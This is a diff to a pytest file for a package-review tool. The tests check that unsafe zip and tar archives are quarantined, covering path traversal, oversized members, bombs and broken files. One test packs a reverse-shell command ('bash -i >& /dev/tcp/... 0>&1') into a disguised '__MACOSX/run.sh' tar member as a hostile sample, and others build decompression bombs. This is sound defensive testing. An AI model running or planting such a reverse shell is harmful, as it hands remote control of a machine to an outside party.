@@ -2,15 +2,17 @@
 
 from __future__ import annotations
 
+import bz2
 import io
+import tarfile
 import zipfile
 from dataclasses import replace
-from typing import TYPE_CHECKING, Any
+from typing import TYPE_CHECKING, Any, Literal
 
 import pytest
 from package_samples import draft, package, run
 
-from metier.review.archives import MAX_MEMBERS, members
+from metier.review.layers.content import LIMITS
 from metier.review.rendering import as_reference, framed
 from metier.review.result import rank
 from metier.review.review import decide, review_draft, review_package
@@ -160,7 +162,7 @@ def test_what_an_archive_holds_is_looked_at() -> None:
         _zip({"../up.txt": b"x"}),
         _zip({"/etc/x": b"x"}),
         _zip({"bomb": bytes(12_000_000)}),
-        _zip({str(n): b"" for n in range(MAX_MEMBERS + 1)}),
+        _zip({str(n): b"" for n in range(LIMITS.members + 1)}),
         _zip({"a": b"x"}, locked=True),
         b"PK\x03\x04 broken",
         b"\x1f\x8b broken",
@@ -168,8 +170,32 @@ def test_what_an_archive_holds_is_looked_at() -> None:
     ids=["parent", "absolute", "bomb", "many", "locked", "broken zip", "broken gzip"],
 )
 def test_an_unsafe_archive_is_quarantined(content: bytes) -> None:
-    assert members("a.zip", content).problem
-    assert review_package(GOOD.with_files({"a.zip": content})).status == "quarantined"
+    result = review_package(GOOD.with_files({"a.zip": content}))
+    assert result.status == "quarantined"
+    assert [one.reason[:7] for one in result.findings if one.rule == "archive-unsafe"] == ["a.zip: "]
+
+
+@pytest.mark.parametrize("form", ["w", "w:gz", "w:bz2", "w:xz"])
+def test_tar_archives_of_every_form_are_looked_into(form: Literal["w", "w:gz", "w:bz2", "w:xz"]) -> None:
+    def tarred(script: bytes) -> bytes:
+        buffer = io.BytesIO()
+        with tarfile.open(fileobj=buffer, mode=form) as archive:
+            info = tarfile.TarInfo("__MACOSX/run.sh")
+            info.size = len(script)
+            archive.addfile(info, io.BytesIO(script))
+        return buffer.getvalue()
+
+    shell = tarred(b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
+    assert review_package(GOOD.with_files({"a.tar": tarred(b"ls")})).status == "candidate"
+    assert review_package(GOOD.with_files({"a.tar": shell})).status == "quarantined"
+    assert "archive-unsafe" not in {one.rule for one in review_package(GOOD.with_files({"a.tar": shell})).findings}
+    assert review_package(GOOD.with_files({"a.tar": tarred(bytes(9_000_000))})).status == ("candidate" if form == "w" else "quarantined")
+    assert review_package(GOOD.with_files({"a.tar": shell[: len(shell) // 3]})).status == "quarantined"
+
+
+def test_a_bz2_of_many_empty_streams_is_refused_soon() -> None:
+    result = review_package(GOOD.with_files({"a.tar": bz2.compress(b"") * 100_000}))
+    assert any("compressed streams" in one.reason for one in result.findings)
 
 
 def test_a_script_with_zero_bytes_is_still_read() -> None:
